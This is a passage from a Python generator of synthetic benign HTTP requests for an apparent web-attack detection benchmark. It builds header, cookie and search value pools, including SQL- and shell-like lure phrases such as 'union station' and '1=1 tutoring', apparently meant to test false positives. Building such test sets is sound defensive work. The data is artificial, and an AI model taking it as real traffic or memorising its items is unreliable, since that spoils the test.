    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Faraday v2.9.0", "Ruby", "RestSharp/110.2.0.0",
    "acme-sdk-js/3.4.1 node/20.11.1 (linux; x64)", "acme-sdk-go/1.8.0 go1.22.4 (linux/amd64)",
    "Terraform/1.8.2 (+https://www.terraform.io) terraform-provider-acme/0.4.1", "k6/0.50.0 (https://k6.io/)",
    "insomnia/2023.5.8", "HTTPie/3.2.2", "Wget/1.21.4", "libcurl/8.4.0 r-curl/5.2.1 httr/1.4.7", "Deno/1.43.1",
    "Bun/1.1.8", "undici", "Zapier", "Microsoft Power Automate", "python-httpx/0.27.0", "aiohttp/3.9.5",
    "Mozilla/5.0 (compatible; Google-Apps-Script; beanserver; +https://script.google.com; id: UAEmdDd8nXYz)",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "Java/17.0.9", "Swift/5.10 URLSession", "CFNetwork/1494.0.7 "
    "Darwin/23.4.0", "ktor-client", "Symfony HttpClient (Curl)", "Jersey/2.41 (HttpUrlConnection 17.0.9)",
]
MONITOR_UAS = [
    "Datadog Agent/7.54.0", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "kube-probe/1.29",
    "ELB-HealthChecker/2.0", "Prometheus/2.48.0", "Blackbox Exporter/0.24.0", "GoogleHC/1.0",
    "NewRelicPinger/1.0 (3456789)", "Site24x7", "StatusCake_Pagespeed_indev", "Better Uptime Bot Chrome/119.0.0.0",
    "Amazon-Route53-Health-Check-Service (ref 4c1e2f3a-8b7d-4e9a-b1c2-d3e4f5a6b7c8; report http://amzn.to/1vsZADi)",
    "Checkly/1.0 (https://www.checklyhq.com)", "Zabbix", "nagios-plugins 2.4.8", "consul-health-check",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Slackbot-LinkExpanding 1.0 "
    "(+https://api.slack.com/robots)", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
]
ACCEPT_LANGUAGES = [
    "en-US,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
    "ja,en-US;q=0.9,en;q=0.8", "zh-CN,zh;q=0.9,zh-TW;q=0.8", "pt-BR,pt;q=0.9,en-US;q=0.8", "es-419,es;q=0.9",
    "sr-Latn-RS,sr;q=0.9", "nb-NO,nb;q=0.9,no;q=0.8,nn;q=0.7,en-US;q=0.6", "ar-EG,ar;q=0.9,en;q=0.8",
    "he-IL,he;q=0.9", "*", "en-GB,en-US;q=0.9,en;q=0.8", "tr-TR,tr;q=0.9", "uk-UA,uk;q=0.9,ru;q=0.8",
    "hi-IN,hi;q=0.9,en-IN;q=0.8", "zh-Hant-HK", "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7", "it", "nl-BE,nl;q=0.9",
    "pl-PL,pl;q=0.9,en-US;q=0.8,en;q=0.7", "en", "fil-PH,fil;q=0.9", "gsw-CH", "de-AT-1996",
]
ACCEPTS_API = [
    "application/json", "application/json, text/plain, */*", "application/vnd.github+json",
    "application/vnd.api+json", "application/json;version=2", "application/hal+json, application/problem+json;q=0.8",
    "text/csv; header=present", "application/x-ndjson", "*/*", "application/json; charset=utf-8",
    "application/vnd.acme.user.v2+json; q=1.0, application/json; q=0.5", "application/ld+json; profile=\"https:"
    "//www.w3.org/ns/activitystreams\"",
]
TIMEZONES = ["Europe/Berlin", "America/Argentina/Buenos_Aires", "Asia/Kolkata", "UTC", "Etc/GMT+5",
             "America/Port-au-Prince", "Pacific/Chatham", "America/Los_Angeles", "Australia/Lord_Howe",
             "Asia/Kathmandu", "Europe/Kyiv", "America/St_Johns", "Africa/Addis_Ababa", "+05:30", "-03:00"]
LOCALES = ["en_US", "pt_BR", "zh_Hant_TW", "sr_Latn_RS", "de-CH", "es_419", "fr_CA", "en-GB", "ja_JP",
           "ar_SA@calendar=islamic", "de_DE@collation=phonebook", "th_TH_TH", "nb_NO", "yue-Hant-HK"]
TENANTS = ["acme", "acme-eu-1", "t_01HZX3K5Q6R7S8T9V0W1X2Y3Z4", "org:1234", "globex.example.com", "initech",
           "umbrella-corp", "42", "tenant_7f3c2a1e", "stark-industries-apac", "wayne.ent"]
CLIENT_NAMES = ["acme-web/2024.06.3", "acme-ios", "Acme for Android", "acme-cli/1.9.2", "zapier",
                "terraform-provider-acme", "acme-admin (staging)", "Acme Desktop 3.2 (Windows)",
                "Salesforce Integration v2", "internal: billing-sync", "Acme Slack app"]
API_VERSIONS = ["2024-06-01", "v2", "2", "1.4", "2023-10-16; preview", "beta", "2024-04-10.acacia", "3.0.0-rc.1"]
REFERERS = [
    "https://www.google.com/", "https://duckduckgo.com/", "https://app.example.com/admin/users?page=3&sort=-created_at",
    "https://app.example.com/me/settings#notifications", "https://l.facebook.com/l.php?u=https%3A%2F%2Fapp.example."
    "com%2F&h=AT0aBcDeFgHiJ", "https://mail.google.com/", "https://teams.microsoft.com/",
    "https://app.slack.com/client/T061EG9R6/C0123456789", "android-app://com.google.android.gm/",
    "https://docs.example.com/api/v2/users?utm_source=docs&utm_medium=link#list-users",
    "https://www.bing.com/search?q=acme+user+admin+select+plan&form=QBLH",
    "https://app.example.com/admin/users/search?q=O%27Brien&role=owner",
    "https://github.com/acme/api/issues/1234#issuecomment-2187654321",
    "https://app.example.com/admin/audit?filter=action%3Ddelete%20OR%20action%3Dupdate",
    "https://news.ycombinator.com/item?id=40712345", "https://t.co/AbCdEf123",
    "https://www.linkedin.com/", "https://app.example.com/admin/users?q=union+station&page=2",
    "https://status.example.com/incidents/9x8y7z", "https://app.example.com/",
]
ETAGS = ['"33a64df551425fcc55e4d42a148795d9f25f89d4"', 'W/"0815"', 'W/"5e15153d-120f"',
         '"xyzzy", "r2d2xxxx", "c3piozzzz"', "*", 'W/"1719216902-42"', '"v2-9f86d081884c7d65"',
         'W/"a0b1c2d3e4f5", W/"f5e4d3c2b1a0"', '"686897696a7c876b7e"', '"0x8DC93B5A2F1E3C4"']
DATES = ["Wed, 21 Oct 2015 07:28:00 GMT", "Mon, 24 Jun 2024 08:15:02 GMT", "Sun, 06 Nov 1994 08:49:37 GMT",
         "Fri, 31 May 2024 23:59:59 GMT", "Tue, 02 Jan 2024 00:00:00 GMT"]
RANGES = ["bytes=0-1023", "bytes=1024-", "bytes=-500", "bytes=0-0,-1", "bytes=500-600,601-999",
          "bytes=0-65535", "bytes=1048576-2097151"]
PREFERS = ["return=minimal", "return=representation", "respond-async, wait=10", "handling=lenient",
           "odata.maxpagesize=50", 'odata.include-annotations="*"', "count=exact", "resolution=merge-duplicates",
           "tx=rollback", "return=representation; include=\"http://www.w3.org/ns/ldp#PreferMinimalContainer\"",
           "wait=5, handling=strict"]
CACHE_CONTROLS = ["no-cache", "max-age=0", "no-cache, no-store, must-revalidate", "max-stale=3600",
                  "only-if-cached", "stale-if-error=86400", "min-fresh=60", "no-transform", "max-age=0, private",
                  'no-cache="Set-Cookie, Set-Cookie2"']
VIAS = ["1.1 varnish (Varnish/7.4)", "1.1 2e9b1d3c4f5a6b7c8d9e0f1a2b3c4d5e.cloudfront.net (CloudFront)",
        "HTTP/1.1 proxy.corp.example:3128 (squid/5.7)", "1.0 fred, 1.1 p.example.net", "2 edge-fra1 (Fastly)",
        "1.1 google", "HTTP/2.0 envoy", "1.1 vegur", "1.1 akamai.net(ghost) (AkamaiGHost)"]
FORWARDED = ['for=192.0.2.60;proto=https;by=203.0.113.43', 'for="[2001:db8:cafe::17]:4711"',
             "for=198.51.100.17, for=203.0.113.60;proto=https;host=app.example.com",
             'for=unknown;by="_hidden"']
XFF = ["203.0.113.195, 70.41.3.18, 150.172.238.178", "2001:db8:85a3:8d3:1319:8a2e:370:7348", "198.51.100.23",
       "10.1.2.3, 192.0.2.44", "unknown, 203.0.113.7"]
WARNINGS = ['110 anderson/1.3.37 "Response is stale"', '299 - "Deprecated: use /v2/users"',
            '199 cache.example.net "Miscellaneous warning" "Wed, 21 Oct 2015 07:28:00 GMT"',
            '214 proxy.corp.example "Transformation applied"', '112 - "cache down" "Mon, 24 Jun 2024 08:15:02 GMT"']
FROMS = ["webmaster@example.org", "googlebot(at)googlebot.com", "bingbot(at)microsoft.com", "ops-team@acme.example",
         "Ann O'Neil <ann.oneil@example.com>", "crawler-admin@research.example.edu"]
SEARCHES = [
    "union station chicago", "select committee hearing", "drop shipping suppliers", "script writing course",
    "alert me when back in stock", "O'Neil", "Smith & Wesson", "rock 'n' roll", "C++ developer",
    "node.js developer", '"exact phrase" -excluded', "from:ann@example.com has:attachment", "price<100",
    "50% off", "where is my order", "exec summary template", "java developer berlin", "php developer remote",
    "system administrator", "M%C3%BCnchen", "S%C3%A3o Paulo", "caf%C3%A9 au lait", "1=1 tutoring", "and/or",
    "null island", "table tennis", "insert coin", "update my address", "delete my account", "order by date",
    "sleep apnea", "benchmark results 2024", "wait for delivery", "echo dot", "cat food", "ping pong table",
    "sh*t happens mug", "Tom's Hardware", "AT&T", "R&D budget", "100% cotton", "#hashtag", "user@domain",
    "first-name last-name", "${name} placeholder docs", "<b>bold</b> in markdown", "--verbose flag",
]
FILTERS = [
    "status:active", "status:active,role:admin", "created_at>=2024-01-01;created_at<2024-07-01",
    '{"status":["active","invited"],"team":"ops"}', "name==Ann*;age=gt=30", "role in (admin, owner)",
    "country eq 'DE' and plan ne 'free'", 'tags:"on call"', "-archived", "updated_since=2024-06-01T00:00:00Z",
    "email:*@example.com", "last_login<now-30d", "team.id=7&team.id=9", "plan=pro|enterprise",
    "startswith(name,'Mc')", "amount gt 100.00", "q=lee&sort=-created_at",
]
CONTENT_TYPES = ["application/json; charset=utf-8", "application/json;charset=UTF-8", "application/json",
                 'application/json; charset="utf-8"', "application/merge-patch+json", "application/vnd.api+json"]
CONTENT_DISPOSITIONS = [
    'attachment; filename="Q2 report (final).pdf"', 'inline; filename="avatar.png"',
    "attachment; filename*=UTF-8''na%C3%AFve%20r%C3%A9sum%C3%A9.pdf", 'attachment; filename="O\'Neil - contract.docx"',
    'attachment; filename="users-2024-06-24.json"', 'form-data; name="profile"; filename="me.json"',
    'attachment; filename="export; part 1 of 2.csv"',
]
CONTENT_LANGUAGES = ["de-DE", "en, fr", "mi, en", "pt-BR", "zh-Hans", "en-US"]
CLIENT_UA_JSON = [
    {"bindings_version": "9.6.0", "lang": "python", "publisher": "acme", "httplib": "requests",
     "lang_version": "3.12.3", "platform": "Linux-6.5.0-1022-aws-x86_64-with-glibc2.35",
     "uname": "Linux ip-10-0-1-23 6.5.0-1022-aws #22 SMP x86_64 x86_64"},
    {"bindings_version": "15.12.0", "lang": "node", "lang_version": "v20.12.2", "platform": "darwin",
     "publisher": "acme", "uname": "Darwin Anns-MacBook-Pro.local 23.4.0 Darwin Kernel Version 23.4.0"},
    {"bindings_version": "78.1.0", "lang": "go", "lang_version": "go1.22.4", "publisher": "acme",
     "uname": "linux amd64"},
]

CONSENT_COOKIES = [
    ("OptanonConsent", "isGpcEnabled=0&datestamp=Mon+Jun+24+2024+10%3A15%3A02+GMT%2B0200+(Central+European+Summer+"
     "Time)&version=202403.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=3f1c2b9e-7a1d-4d6e-9b2a-"
     "0c8e5f6a7b8c&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A0%2CC0003%3A1%2C"
     "C0004%3A0&AwaitingReconsent=false"),
    ("OptanonAlertBoxClosed", "2024-06-24T08:15:02.113Z"),
    ("CookieConsent", "{stamp:%27mJ1bQ3vYxk6Qn0H2wL9sA8eD7rT5uI4oP3aS2dF1gH0jK9lZ8xC7vB6nM5==%27%2Cnecessary:true"
     "%2Cpreferences:true%2Cstatistics:false%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1%2Cutc:"
     "1719216902113%2Cregion:%27de%27}"),
    ("cookieyes-consent", "consentid:ZkZ3N2V4,consent:yes,action:yes,necessary:yes,functional:yes,analytics:no,"
     "performance:no,advertisement:no"),
    ("euconsent-v2", "CP-abcdP-abcdAcABBENA3EgAAAAAAAAAAYgAAAAAAAAA.YAAAAAAAAAAA"),
    ("cookie_consent", '{"necessary":true,"analytics":false,"marketing":false,"version":3}'),
    ("usprivacy", "1YNN"),
]
TRACKING_COOKIES = [
    ("_ga", "GA1.1.1843012345.1719216902"), ("_ga_9XK2P4QH7L", "GS1.1.1719216902.3.1.1719217044.0.0.0"),
    ("_gid", "GA1.2.987654321.1719216902"), ("_fbp", "fb.1.1719216902113.1234567890"),
    ("_hjSessionUser_3456789", _b64('{"id":"6eb18b44-175b-586d-a31d-26e98fd7b90e","created":1719216902113,'
                                    '"existing":true}')),
    ("ajs_anonymous_id", "%2254b1f2a8-3c9d-4e7f-a0b1-c2d3e4f5a6b7%22"), ("ajs_user_id", "%22usr_42%22"),
    ("_gcl_au", "1.1.1234567890.1719216902"), ("mp_1a2b3c4d5e6f_mixpanel", "%7B%22distinct_id%22%3A%20%22usr_42"
                                                                            "%22%2C%22%24device_id%22%3A%20%22"
                                                                            "18f4a2b3c4d%22%7D"),
    ("AMCV_1234567890ABCDEF%40AdobeOrg", "-1124106680%7CMCIDTS%7C19898%7CMCMID%7C1234567890"),
    ("__cf_bm", "Zx8y7w6v5u4t3s2r1q0p9o8n7m6l5k4j3i2h1g0f-1719216902-1.0.1.1-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
    ("AWSALB", "Q2lwaGVyVGV4dEhlcmVJc0Jhc2U2NEVuY29kZWRBbmRSYW5kb20="),
]
APP_COOKIES = [
    ("theme", "dark"), ("theme", "light"), ("theme", "high-contrast"),
    ("prefs", '{"theme":"dark","density":"compact","sidebar":false}'),
    ("prefs", "%7B%22theme%22%3A%22light%22%2C%22tz%22%3A%22Europe%2FBerlin%22%7D"),
    ("recent_search", "%5B%22union%20station%22%2C%22select%20committee%22%2C%22drop%20off%22%5D"),
    ("recent_search", '["O\'Neil","Smith & Wesson","C++"]'),
    ("recent_search", "java%20developer%7Cphp%20developer%7Cscript%20writing"),
    ("cart", _b64('{"items":[{"sku":"A123","qty":2}],"currency":"EUR"}')),
    ("locale", "de-DE"), ("tz", "America%2FNew_York"), ("NEXT_LOCALE", "pt-BR"), ("i18next", "en"),
    ("pll_language", "fr"), ("sidebar_state", "collapsed"),
    ("dismissed_banners", "%5B%22maint-2024-06%22%2C%22new-billing%22%5D"), ("last_seen_changelog", "2024-06-20"),
    ("display_name", "Ann%20O%27Neil"), ("experiment_bucket", "checkout-v2%3Avariant-b"),
    ("utm", "%7B%22source%22%3A%22newsletter%22%2C%22medium%22%3A%22email%22%2C%22campaign%22%3A%22june-drop%22%7D"),
    ("wp-settings-time-1", "1719216902"), ("currency", "EUR"), ("region", "eu-west"),
    ("onboarding", "step=3&skipped=import,invite"), ("table_columns", "name,email,role,last_login"),
    ("saved_filter", "status%3Aactive%20AND%20role%3Aadmin"), ("user_id", "42"), ("page", "2"),
    ("return_to", "%2Fadmin%2Fusers%3Fpage%3D3"), ("login_hint", "ann.lee%40example.org"),
]
SESSION_COOKIES = [
    ("__Host-session", None), ("__Secure-next-auth.session-token", "jwt"), ("connect.sid", "express"),
    ("_rails_app_session", "rails"), ("session", "flask"), ("XSRF-TOKEN", "laravel"), ("laravel_session", "laravel"),
    ("PHPSESSID", "php"), ("JSESSIONID", "java"), ("ASP.NET_SessionId", "aspnet"), ("csrftoken", None),
    ("sessionid", None),
]


class _Benign:
    def __init__(self) -> None:
        self.rng = random.Random(8888)
        self.n = 0

    def pick(self, seq: list[Any]) -> Any:
        return self.rng.choice(seq)

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def uuid(self) -> str:
        h = self.hexs(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{self.pick(list('89ab'))}{h[17:20]}-{h[20:]}"

    def tok(self, nbytes: int = 24) -> str:
        return base64.urlsafe_b64encode(self.rng.randbytes(nbytes)).decode().rstrip("=")

    def session_cookie(self) -> tuple[str, str]:
        name, kind = self.pick(SESSION_COOKIES)
        if kind == "jwt":
            head = base64.urlsafe_b64encode(b'{"alg":"dir","enc":"A256GCM"}').decode().rstrip("=")
            return name, f"{head}..{self.tok(12)}.{self.tok(60)}.{self.tok(16)}"
        if kind == "express":
            return name, f"s%3A{self.tok(24)}.{self.tok(32)}"
        if kind == "rails":
            return name, f"{self.tok(90)}--{self.hexs(40)}"
        if kind == "flask":
            body = base64.urlsafe_b64encode(json.dumps({"user_id": self.rng.randint(1, 9999)}).encode()).decode()
            return name, f"{body.rstrip('=')}.ZnlK1A.{self.tok(20)}"
        if kind == "laravel":
            doc = {"iv": _b64(self.hexs(16)), "value": self.tok(48), "mac": self.hexs(64), "tag": ""}
            return name, urllib.parse.quote(_b64(json.dumps(doc, separators=(",", ":"))))
        if kind == "php":
            return name, "".join(self.rng.choice("abcdefghijklmnopqrstuv0123456789") for _ in range(26))
        if kind == "java":
            return name, self.hexs(32).upper() + ".node1"
        if kind == "aspnet":
            return name, "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz012345") for _ in range(24))
        return name, self.tok(32)

    def cookies(self, k: int) -> str:
        parts = [self.session_cookie()]
        pool = CONSENT_COOKIES + TRACKING_COOKIES + APP_COOKIES
        seen = {parts[0][0]}
        for _ in range(k):
            name, value = self.pick(pool)
            if name not in seen:
                seen.add(name)
                parts.append((name, value))
        return "; ".join(f"{name}={value}" for name, value in parts)

    def route(self) -> tuple[str, str, str, str]:
        """(kind of client: browser or sdk, method, uri, body)."""
        r = self.rng.randrange(6)
        if r == 0:
            return "sdk", "GET", f"/api/users?page={self.rng.randint(1, 40)}", ""
        if r == 1:
            return "sdk", "GET", f"/api/users/{self.rng.randint(1, 99999)}", ""
        if r == 2:
            doc = {"name": self.pick(["Ann Lee", "Siobhán O'Neil", "José Álvarez", "Zoë Müller", "李雷"]),
                   "email": f"user{self.rng.randint(1, 999)}@example.org", "locale": self.pick(LOCALES)}
            return "sdk", "POST", "/api/users", json.dumps(doc, ensure_ascii=False)
        if r == 3:
            body = urllib.parse.urlencode([("csrf_token", self.hexs(40)),
                                           ("q", self.pick(["lee", "O'Neil", "ann@example.org", "smith"])),
                                           ("page", str(self.rng.randint(1, 9)))])
            return "browser", "POST", "/admin/users/search", body
        if r == 4:
            return "browser", "GET", "/me/settings", ""
        return "browser", "GET", "/api/users?page=2", ""

    def base_headers(self, client: str, method: str, uri: str) -> dict[str, str]:
        if client == "browser":
            ua = self.pick(BROWSER_UAS)
            h = {"User-Agent": ua, "Accept-Language": self.pick(ACCEPT_LANGUAGES),
                 "Accept-Encoding": "gzip, deflate, br, zstd"}
            if uri.startswith("/api/"):
                h["Accept"] = "application/json, text/plain, */*"
                h["X-Requested-With"] = "XMLHttpRequest"
                h["Sec-Fetch-Mode"] = "cors"
            else:
                h["Accept"] = ACCEPT_HTML
                h["Sec-Fetch-Mode"] = "navigate"
                h["Upgrade-Insecure-Requests"] = "1"
            if "Chrome" in ua and "Firefox" not in ua:
                v = ua.split("Chrome/")[1].split(".")[0]
                h["Sec-CH-UA"] = f'"Google Chrome";v="{v}", "Chromium";v="{v}", "Not.A/Brand";v="24"'
                h["Sec-CH-UA-Mobile"] = "?1" if "Mobile" in ua else "?0"
                h["Sec-CH-UA-Platform"] = '"Android"' if "Android" in ua else '"Windows"'
            h["Sec-Fetch-Site"] = "same-origin"
            h["Referer"] = self.pick(REFERERS)
            h["Cookie"] = self.cookies(self.rng.randint(2, 7))
            if method == "POST":
                h["Content-Type"] = "application/x-www-form-urlencoded"
                h["Origin"] = "https://app.example.com"
            return h
        h = {"User-Agent": self.pick(SDK_UAS), "Accept": self.pick(ACCEPTS_API), "Accept-Encoding": "gzip",
             "X-Request-Id": self.uuid()}
        if method == "POST":
            h["Content-Type"] = "application/json"
        return h

    def record(self, kind: str, req: dict[str, Any]) -> dict[str, Any]:
        self.n += 1
        for v in req["headers"].values():
            assert not any(ch in v for ch in "\r\n\0"), v
        return {**req, "id": f"{NAME}-{kind}-{self.n:04d}", "category": "benign", "placement": "header",
                "sub": kind}

    def request(self, kind: str, extra: dict[str, str], client: str | None = None) -> dict[str, Any]:
        c, method, uri, body = self.route()
        while client is not None and c != client:
            c, method, uri, body = self.route()
        headers = self.base_headers(c, method, uri)
        if method == "POST" and uri.startswith("/api/") and "Content-Type" not in extra:
            extra = {**extra, "Content-Type": headers.get("Content-Type", "application/json")}
        if method != "POST":
            extra = {k: v for k, v in extra.items() if k not in ("Content-Type", "Content-Disposition")}
        return self.record(kind, {"method": method, "uri": uri, "body": body, "headers": {**headers, **extra}})

    # one generator per kind -------------------------------------------------------------------------------
    def browser(self) -> dict[str, Any]:
        extra: dict[str, str] = {}
        if self.rng.random() < 0.3:
            extra["DNT"] = "1"
        if self.rng.random() < 0.2:
            extra["Priority"] = self.pick(["u=0, i", "u=1", "u=3, i"])
        return self.request("browser", extra, "browser")

    def sdk(self) -> dict[str, Any]:
        extra = {"X-Api-Version": self.pick(API_VERSIONS), "X-Tenant-Id": self.pick(TENANTS),
                 "X-Client-Name": self.pick(CLIENT_NAMES)}
        if self.rng.random() < 0.5:
            extra["X-Correlation-Id"] = self.pick([self.uuid(), f"corr-{self.hexs(12)}", f"{self.hexs(16)}"])
        if self.rng.random() < 0.5:
            extra["X-Device-Id"] = self.pick([self.uuid().upper(), self.hexs(16), f"android-{self.hexs(16)}"])
        if self.rng.random() < 0.5:
            extra["X-Locale"] = self.pick(LOCALES)
        if self.rng.random() < 0.5:
            extra["X-Timezone"] = self.pick(TIMEZONES)
        if self.rng.random() < 0.3:
            extra["X-Client-User-Agent"] = json.dumps(self.pick(CLIENT_UA_JSON), separators=(",", ":"))
        if self.rng.random() < 0.3:
            extra["Idempotency-Key"] = self.uuid()
        if self.rng.random() < 0.3:
            extra["Cookie"] = "; ".join(f"{k}={v}" for k, v in [self.session_cookie(), ("region", "eu-west")])
        if self.rng.random() < 0.2:
            extra["Accept-Language"] = self.pick(ACCEPT_LANGUAGES)
        return self.request("sdk", extra, "sdk")

    def cache(self) -> dict[str, Any]:
        extra = {"If-None-Match": self.pick(ETAGS)}
        if self.rng.random() < 0.4:
            extra["If-Modified-Since"] = self.pick(DATES)
        if self.rng.random() < 0.3:
            extra["If-Match"] = self.pick(ETAGS)
        if self.rng.random() < 0.4:
            extra["Range"] = self.pick(RANGES)
            if self.rng.random() < 0.5:
                extra["If-Range"] = self.pick(ETAGS[:3] + DATES[:2])
        if self.rng.random() < 0.5:
            extra["Cache-Control"] = self.pick(CACHE_CONTROLS)
        if self.rng.random() < 0.3:
            extra["Pragma"] = "no-cache"
        if self.rng.random() < 0.4:
            extra["Prefer"] = self.pick(PREFERS)
        return self.request("cache", extra)

    def proxy(self) -> dict[str, Any]:
        tid = self.hexs(32)
        extra = {"Via": self.pick(VIAS), "X-Forwarded-For": self.pick(XFF), "X-Forwarded-Proto": "https",
                 "X-Forwarded-Host": "app.example.com"}
        if self.rng.random() < 0.5:
            extra["Forwarded"] = self.pick(FORWARDED)
        extra[self.pick(["traceparent", "X-Amzn-Trace-Id", "b3", "X-Cloud-Trace-Context", "X-B3-TraceId"])] = \
            self.pick([f"00-{tid}-{self.hexs(16)}-01", f"Root=1-6679a3c2-{self.hexs(24)};Parent={self.hexs(16)};"
                       "Sampled=1", f"{tid}-{self.hexs(16)}-1", f"{tid}/1234567890123456789;o=1", tid])
        if self.rng.random() < 0.3:
            extra["tracestate"] = f"congo=t61rcWkgMzE,rojo={self.hexs(16)}"
        if self.rng.random() < 0.3:
            extra["baggage"] = "userId=alice,serverNode=DF%2028,isProduction=false"
        if self.rng.random() < 0.3:
            extra["Warning"] = self.pick(WARNINGS)
        if self.rng.random() < 0.3:
            extra["X-Real-IP"] = "198.51.100.23"
        if self.rng.random() < 0.2:
            extra["CDN-Loop"] = "cloudflare; loops=1, Fastly"
        return self.request("proxy", extra)

    def monitor(self) -> dict[str, Any]:
        ua = self.pick(MONITOR_UAS)
        uri = self.pick(["/api/users?page=1", "/me/settings", "/api/users/1", "/verify_token", "/api/users?page=2"])
        h = {"User-Agent": ua, "Accept": self.pick(["*/*", "application/json", "text/html,*/*;q=0.8"]),
             "Connection": "keep-alive"}
        if "bot" in ua.lower() or "facebook" in ua:
            h["From"] = self.pick(FROMS)
        if self.rng.random() < 0.4:
            h["Cache-Control"] = "no-cache"
        if self.rng.random() < 0.3:
            h["X-Request-Id"] = self.uuid()
        if self.rng.random() < 0.2:
            h["Accept-Language"] = "en"
        return self.record("monitor", {"method": "GET", "uri": uri, "body": "", "headers": h})

    def search(self) -> dict[str, Any]:
        extra: dict[str, str] = {}
        r = self.rng.randrange(3)
        if r != 1:
            extra["X-Search"] = self.pick(SEARCHES)
        if r != 0:
            extra["X-Filter"] = self.pick(FILTERS)
        if self.rng.random() < 0.4:
            extra["X-Sort"] = self.pick(["-created_at,name", "name", "last_login desc", "+email"])
        if self.rng.random() < 0.4:
            extra["X-Fields"] = self.pick(["id,name,email,created_at", "*", "id,profile(name,avatar_url)"])
        return self.request("search", extra)

    def cookie(self) -> dict[str, Any]:
        # browser traffic whose cookies are the point: many at once, JSON, base64, consent documents
        req = self.request("cookie", {}, "browser")
        req["headers"]["Cookie"] = self.cookies(self.rng.randint(6, 14))
        return req

    def content(self) -> dict[str, Any]:
        extra = {"Content-Type": self.pick(CONTENT_TYPES)}
        if self.rng.random() < 0.6:
            extra["Content-Disposition"] = self.pick(CONTENT_DISPOSITIONS)
        if self.rng.random() < 0.5:
            extra["Content-Language"] = self.pick(CONTENT_LANGUAGES)
        if self.rng.random() < 0.3:
            extra["Prefer"] = self.pick(PREFERS)
        if self.rng.random() < 0.3:
            extra["If-Match"] = self.pick(ETAGS)
        doc = {"name": self.pick(["Ann Lee", "Siobhán O'Neil", "José Álvarez", "Zoë Müller"]),
               "email": f"user{self.rng.randint(1, 999)}@example.org", "bio": self.pick(SEARCHES)}
        headers = {"User-Agent": self.pick(SDK_UAS), "Accept": "application/json", "X-Request-Id": self.uuid(),
                   **extra}
        return self.record("content", {"method": "POST", "uri": "/api/users",
                                       "body": json.dumps(doc, ensure_ascii=False), "headers": headers})


BENIGN_PLAN = [("browser", 150), ("sdk", 130), ("cache", 70), ("proxy", 70), ("monitor", 50), ("search", 80),
               ("cookie", 80), ("content", 50)]


def benign() -> Iterator[dict[str, Any]]:
    gen = _Benign()
    todo = [kind for kind, count in BENIGN_PLAN for _ in range(count)]
    gen.rng.shuffle(todo)
    for kind in todo:
        yield getattr(gen, kind)()


if __name__ == "__main__":
    print_records(attacks(), benign())
